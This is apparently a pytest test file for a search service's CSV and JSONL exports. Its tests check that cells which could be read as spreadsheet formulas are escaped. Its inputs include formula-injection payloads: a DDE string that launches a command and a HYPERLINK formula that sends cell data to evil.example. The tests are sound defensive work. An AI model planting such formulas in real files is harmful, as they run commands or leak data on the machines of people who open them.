"""A list as a file: every hit once, texts to the letter, and no cell that a spreadsheet would run."""

import csv
import io
import json
from urllib.parse import quote

import pytest
from fakes import FakeModel
from hypothesis import given, settings
from hypothesis import strategies as st

from indexer import Searcher, build_index
from indexer.store.embedded import EmbeddedStore
from indexer.store.generation import IndexFolder
from web import SearchService, create_app
from web.exports import COLUMNS, cell

SEARCH = "/api/v1/search"


def open_fake(index, model, before):
    return Searcher(EmbeddedStore.open(IndexFolder(index)), FakeModel())


@pytest.fixture(scope="module")
def client(press):
    return create_app(SearchService(press / "index", None, open_fake)).test_client()


def every_hit(client, query):
    hits, address = [], f"{SEARCH}?{query}&limit=100"
    while address:
        found = client.get(address).get_json()
        hits += found["hits"]
        address = found["next"]
    return hits


def rows_of(response):
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeffrank,score,text,")  # the mark by which Excel knows UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


QUERIES = ["q=dams+of+the+valleys", f"q={quote('السدود')}&lang=ar", "q=port&source=wire&sort=date", "q=x&copies=all",
           "q=harbour+master+trap&mode=lexical", "q=port&from=2024-01-01&to=2025-03-01", "q=port&limit=1&offset=3"]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES)
def test_json_lines_are_the_hits_of_the_whole_list(client, query):
    response = client.get(f"/export.jsonl?{query}")
    assert (response.status_code, response.mimetype) == (200, "application/jsonl")
    assert response.headers["Content-Disposition"] == 'attachment; filename="warraq.jsonl"'
    lines = response.get_data().decode("utf-8").split("\n")
    assert lines.pop() == ""
    expected = every_hit(client, query.replace("&limit=1&offset=3", ""))
    assert [json.loads(line) for line in lines] == expected
    assert expected


@pytest.mark.parametrize("query", QUERIES)
def test_csv_has_a_row_a_hit(client, query):
    response = client.get(f"/export.csv?{query}")
    assert (response.status_code, response.mimetype) == (200, "text/csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="warraq.csv"'
    rows = rows_of(response)
    hits = every_hit(client, query.replace("&limit=1&offset=3", ""))
    assert len(rows) == len(hits)
    for row, hit in zip(rows, hits, strict=True):
        source = hit["source"]
        assert tuple(row) == COLUMNS
        assert (row["rank"], row["text"], row["sha256"]) == (str(hit["rank"]), hit["text"], source["sha256"])
        assert (row["file"], row["title"]) == (source["path"], source["title"])
        assert (int(row["line_start"]), int(row["line_end"])) == (source["line_start"], source["line_end"])
        assert row["published"] == (source["published"] or "")
        answer = client.get(row["address"].removeprefix("http://localhost"))
        assert answer.status_code == 200
        assert f"start={source['char_start']}&end={source['char_end']}" in row["address"]


def test_a_bad_request_is_refused_before_a_file_begins(client):
    for form in ("csv", "jsonl"):
        response = client.get(f"/export.{form}?q=x&mode=best")
        assert response.status_code == 400
        assert "Content-Disposition" not in response.headers
    assert client.get("/export.xlsx?q=x").status_code == 404


DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r\n=1", " =1", "\u00a0=1", "\u200e=1",
             "\ufeff=1", "＝1", "＋1", "－1", "＠x", "﹢1", "|x", "%0A=1", "\u202e=1"]  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_is_a_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "text", "1 = 1", "«=»", "السدود", "'=1", "🕊", "  text", "3", "–1", "—"])
def test_other_texts_are_as_they_are(text):
    assert cell(text) == text


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=20))
def test_a_cell_is_its_text_behind_at_most_an_apostrophe(text):
    made = cell(text)
    assert made in (text, f"'{text}")
    assert made.lstrip()[:1] not in ("=", "+", "-", "@")


def test_an_article_of_formulas_becomes_texts(tmp_path, index, model):
    folder = tmp_path / "sheets"
    folder.mkdir()
    text = (
        '=HYPERLINK("http://evil.example/?"&A1;"the council met on Monday about the harbour and its cranes")'
    )
    (folder / "a.txt").write_text(f"{text}\n", "utf-8")
    build_index(folder, index, model)
    client = create_app(SearchService(index, None, open_fake)).test_client()
    (row,) = rows_of(client.get("/export.csv?q=council"))
    assert row["text"] == f"'{text}"
    assert row["title"] == f"'{text}"
